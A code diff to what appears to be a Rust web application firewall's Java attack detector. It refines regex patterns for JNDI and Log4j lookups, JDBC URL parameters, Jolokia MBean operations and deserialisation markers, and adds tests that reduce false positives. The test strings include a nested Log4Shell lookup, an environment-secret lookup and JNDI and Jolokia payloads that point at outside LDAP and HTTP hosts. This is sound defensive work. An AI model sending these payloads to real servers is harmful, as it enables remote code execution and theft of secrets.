@@ -90,11 +90,14 @@ impl Java {
             // `allowLoadLocalInfile`; socket and logger factories load classes.
             (
                 JAVA_JDBC,
-                r"jdbc:[a-z0-9]+:[^\s'\x22]*(?:;\s*init\s*=|[?&;](?:autodeserialize|allowloadlocalinfile|allowurlinlocalinfile|socketfactory|socketfactoryarg|sslfactory|loggerlevel|loggerfile|queryinterceptors|statementinterceptors)\s*=)",
+                r"jdbc:[a-z0-9]+:[^\s'\x22]*(?:;\s*init\s*=|[?&;:](?:autodeserialize|allowloadlocalinfile|allowurlinlocalinfile|socketfactory|socketfactoryarg|sslfactory|loggerlevel|loggerfile|queryinterceptors|statementinterceptors|[a-z]*jndiname)\s*=)",
             ),
+            // Lookups that fetch, that spell `jndi` out piece by piece, or that read the
+            // environment's secrets. A log4j2.xml's own `${sys:catalina.base}` and
+            // `${date:yyyy-MM-dd}` are configuration; lookups inside lookups count above.
             (
                 JAVA_JNDI,
-                r"\$\{\s*(?:jndi|ldap|ldaps|rmi|dns|iiop|corba|nds|nis|lower|upper|env|sys|date|java|main|bundle|ctx|docker|k8s|log4j|spring|web|marker|sd|map|base64|event|jvmrunargs)\s*:(?:[^-]|$)",
+                r"\$\{\s*(?:jndi|ldap|ldaps|rmi|dns|iiop|corba|nds|nis|lower|upper|ctx|base64|env)\s*:(?:[^-]|$)",
             ),
             (
                 JAVA_JNDI,
@@ -105,6 +108,13 @@ impl Java {
                 r"\b(?:com\.opensymphony\.xwork2|com\.sun\.org\.apache|org\.omg\.corba|java\.(?:lang\.)?(?:runtime|processbuilder)\b|processbuilder|processimpl|runtime\s*\.\s*getruntime|getruntime\s*\(|invokertransformer|chainedtransformer|constanttransformer|instantiatetransformer|instantiatefactory|templatesimpl|jdbcrowsetimpl|unicastref|unicastremoteobject|scriptenginemanager|urlclassloader|bytearrayinputstream|objectinputstream|xstream|org\.apache\.commons\.collections|org\.apache\.xalan|org\.springframework\.(?:context\.support\.(?:classpath|filesystem)xmlapplicationcontext|beans\.factory\.objectfactory|transaction\.jta\.jtatransactionmanager|core\.serializabletypewrapper|expression\.)|org\.codehaus\.groovy|com\.mchange\.v2|bsh\.interpreter|java\.lang\.reflect|sun\.misc\.unsafe|objectdataprovider|typeconfusedelegate|textformattingrunproperties|clr-namespace:system\.diagnostics|system\.diagnostics\.process\b|delegateserializationholder|comparisoncomparer|activitysurrogateselector|axhost\+?state)",
             ),
             (JAVA_CLASS, r#"["']@type["']\s*:\s*["'][a-z]"#),
+            // MBean operations that load code or configuration from a URL, or write where a
+            // server serves (through Jolokia): logback's `reloadByURL`, MLet's
+            // `getMBeansFromURL`, the JVM's `jvmtiAgentLoad` and `compilerDirectivesAdd`.
+            (
+                JAVA_CLASS,
+                r"\b(?:reloadbyurl|getmbeansfromurl|jvmtiagentload|compilerdirectivesadd)\b",
+            ),
             (
                 JAVA_DESERIALISATION,
                 r"\bro0ab|\baced0005|\\xac\\xed\\x00\\x05|\xac\xed\x00\x05|\bh4siaaaaaaaa[a-z0-9+/]{0,8}ro0",
@@ -160,7 +170,7 @@ impl Java {
             .build(GADGETS.iter().chain(KEYWORDS))
             .map_err(|e| WafError::Pattern(e.to_string()))?;
         let jdk_class = Regex::new(
-            r"(?-u)\b(?:java|javax|jdk|sun|com\.sun)\.(?:lang|io|net|nio|util|beans|rmi|security|sql|script|naming|management|xml|reflect|misc|invoke)\.([a-z0-9_$.]*)(\([a-z0-9_$]*\.java:[0-9]+\)|\((?:native method|unknown source)\))?",
+            r"(?-u)\b(?:java|javax|jdk|sun|com\.sun)\.(?:lang|io|net|nio|util|beans|rmi|security|sql|script|naming|management|xml|reflect|misc|invoke)\.([a-z0-9_$.]*)(\((?:[a-z0-9_.$@-]+/)?(?:[a-z0-9_$]*\.java:[0-9]+|native method|unknown source)\))?",
         )
         .map_err(|e| WafError::Pattern(e.to_string()))?;
         Ok(Self {
@@ -191,6 +201,10 @@ impl Java {
             let diagnostic = class.ends_with(b"exception")
                 || class.ends_with(b"error")
                 || class.ends_with(b"throwable")
+                // A thread dump's `java.lang.Thread.State: RUNNABLE` and the locks it names
+                // (`- locked <0x…> (a java.util.concurrent.locks.ReentrantLock)`).
+                || class == b"thread.state"
+                || text[..whole.start()].ends_with("(a ")
                 || in_signature(text, whole.start(), whole.end());
             if !class.is_empty() && !frame && !diagnostic {
                 sink.hit(JAVA_CLASS, text, whole.start());
@@ -201,7 +215,10 @@ impl Java {
 
     pub(crate) fn scan(&self, v: &Variants, sink: &mut Sink<'_>, lower_may_match: bool) {
         if lower_may_match {
-            self.patterns.scan(v.lower(), sink);
+            match super::frames_blanked(v.lower()) {
+                Some(text) => self.patterns.scan(&text, sink),
+                None => self.patterns.scan(v.lower(), sink),
+            }
         }
         self.scan_jdk_class(v.lower(), sink);
         // 80 bits of the shortest gadget name need 14 base64 characters, 56 bits of the
@@ -338,7 +355,7 @@ fn in_signature(text: &str, start: usize, end: usize) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::detect::testing::{families, flags, hits, rule};
+    use crate::detect::testing::{families, flags, hits, rule, silent};
     use crate::extract::Kind;
 
     #[test]
@@ -409,6 +426,44 @@ mod tests {
     }
 
     #[test]
+    fn logging_configuration_lookups() {
+        silent(
+            "java",
+            &[
+                "<Property name=\"logs\">${sys:catalina.base}/logs</Property>",
+                "filePattern=\"app-${date:yyyy-MM-dd}.log.gz\"",
+            ],
+        );
+        flags(
+            "java",
+            &[
+                "${env:AWS_SECRET_ACCESS_KEY}",
+                "${${env:x:-j}ndi:ldap://x/a}",
+            ],
+        );
+    }
+
+    #[test]
+    fn stack_frames_are_no_calls() {
+        silent(
+            "java",
+            &[
+                "[\"java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)\", \"java.lang.Runtime.exec(Runtime.java:614)\"]",
+                "\tat java.base/java.lang.reflect.Method.invoke(Method.java:580)\n\tat x.Y.z(Y.java:1)",
+                "   java.lang.Thread.State: RUNNABLE\n\tat sun.nio.ch.EPoll.wait(java.base@17.0.10/Native Method)",
+                "\t- parking to wait for <0x00000000c1e2a3b8> (a java.util.concurrent.locks.AbstractQueuedSynchronizer$ConditionObject)",
+            ],
+        );
+        flags(
+            "java",
+            &[
+                "T(java.lang.Runtime).exec(x.java:1)",
+                "@java.lang.Runtime@getRuntime().exec(a.java:1)",
+            ],
+        );
+    }
+
+    #[test]
     fn detects_java_attacks() {
         flags(
             "java",
@@ -419,6 +474,8 @@ mod tests {
                 "java.lang.Runtime",
                 "java.Runtime",
                 "System.DelegateSerializationHolder",
+                "/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/203.0.113.5!/logback.xml",
+                "jdbc:db2://192.0.2.17:50000/BLUDB:clientRerouteServerListJNDIName=ldap://198.51.100.3:1389/evil;",
                 "System.Workflow.ComponentModel.Serialization.ActivitySurrogateSelector",
                 "System.Windows.Forms.AxHost+State",
                 "System.Collections.Generic.ComparisonComparer`1[[System.String, mscorlib]]",
